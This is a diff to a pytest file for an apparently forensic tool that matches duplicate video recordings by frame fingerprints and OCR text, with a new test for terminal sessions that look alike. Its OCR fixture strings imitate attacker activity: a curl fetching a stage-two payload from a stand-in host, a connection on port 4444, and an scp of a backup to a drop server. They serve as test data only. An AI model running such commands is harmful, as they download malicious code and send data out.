@@ -4,6 +4,8 @@
 from __future__ import annotations
 
 import json
+import random
+import sqlite3
 import sys
 from pathlib import Path
 
@@ -12,7 +14,7 @@ import numpy as np
 import pytest
 from PIL import Image
 
-from desktop.core.recordings import SAME_SHARE, fingerprints, match, same_recordings
+from desktop.core.recordings import SAME_SHARE, TEXT_SHARE, fingerprints, match, same_recordings
 from desktop.ingest.fingerprint import Fingerprint
 
 sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
@@ -82,7 +84,6 @@ def fingerprints_of(fp: dict[str, object]) -> list[tuple[float, int, int]]:
 
 
 def test_same_recordings_across_items_and_cases(videos: dict[str, Path], tmp_path: Path) -> None:
-    import sqlite3
 
     def case_db(folder: Path, media: dict[int, tuple[str, Path]]) -> sqlite3.Connection:
         folder.mkdir()
@@ -104,6 +105,51 @@ def test_same_recordings_across_items_and_cases(videos: dict[str, Path], tmp_pat
     found = same_recordings(mine, others=[("x", "Earlier campaign", tmp_path / "theirs.casetrail")])
     assert [c.other_item_id for c in found[1]] == [3, 7] or [c.other_item_id for c in found[1]] == [7, 3]
     texts = [c.describe() for c in found[1]]
-    assert any(t.startswith("same recording as item 3, ") and t.endswith("% of frames") for t in texts)
+    # no OCR lines in these cases: the pictures alone decide, and the match says so
+    assert any(t.startswith("same recording as item 3, ") and t.endswith("% of frames (pictures only)")
+               for t in texts)
     assert any("in case 'Earlier campaign'" in t for t in texts)
     assert 2 not in found  # a different session that looks alike is not a copy
+
+
+def _text_case(folder: Path, videos: dict[int, list[str] | None]) -> sqlite3.Connection:
+    """A case whose videos all have the same pictures (one sequence of hashes) and their own text."""
+    rng = random.Random(3)
+    samples = [[round(0.5 * i, 3), f"{rng.getrandbits(256):064x}", f"{rng.getrandbits(256):064x}"]
+               for i in range(20)]
+    folder.mkdir()
+    conn = sqlite3.connect(folder / "case.sqlite")
+    conn.execute("CREATE TABLE items (id INTEGER PRIMARY KEY, name TEXT, same_as INTEGER)")
+    conn.execute("CREATE TABLE media (item_id INTEGER, kind TEXT, detail TEXT)")
+    conn.execute("CREATE TABLE ocr_lines (item_id INTEGER, text TEXT)")
+    for item_id, lines in videos.items():
+        conn.execute("INSERT INTO items VALUES (?, ?, NULL)", (item_id, f"v{item_id}.mp4"))
+        conn.execute("INSERT INTO media VALUES (?, 'video', ?)",
+                     (item_id, json.dumps({"fingerprint": {"samples": samples}})))
+        conn.executemany("INSERT INTO ocr_lines VALUES (?, ?)", [(item_id, t) for t in lines or []])
+    conn.commit()
+    return conn
+
+
+SESSION_A = [f"$ whois 185.141.63.{n} | grep -i netname" for n in range(10)] + [
+    "$ curl -sk -o /tmp/payload.bin http://cdn-drop.example.top/stage2.bin",
+    "Connection to 185.141.63.120 4444 port [tcp/*] succeeded!"]
+SESSION_B = [f"$ dig +short vote-{n}.example.de" for n in range(10)] + [
+    "$ scp backup.tar.gz svc-web@files.example.ch:/srv/drop/"]
+
+
+def test_pictures_alike_but_text_apart_are_not_the_same_recording(tmp_path: Path) -> None:
+    # two different terminal sessions hash alike (dark screen, sparse grey text): the text tells
+    conn = _text_case(tmp_path / "c.casetrail", {1: SESSION_A, 2: SESSION_B, 3: [*SESSION_A[2:], "$ exit"],
+                                                 4: ["$ ls"]})
+    found = same_recordings(conn)
+    assert {c.other_item_id for c in found[2]} == {4}  # not 1 nor 3: their text is another
+    copies = {c.other_item_id: c for c in found[1]}
+    assert set(copies) == {3, 4}
+    share = copies[3].text_share
+    assert share is not None
+    assert share >= TEXT_SHARE
+    assert copies[3].describe().endswith("% of the text")
+    assert copies[4].text_share is None  # too little text on item 4 to compare
+    assert copies[4].describe().endswith("(pictures only)")
+    assert copies[3].to_json()["text_share"] == round(share, 3)
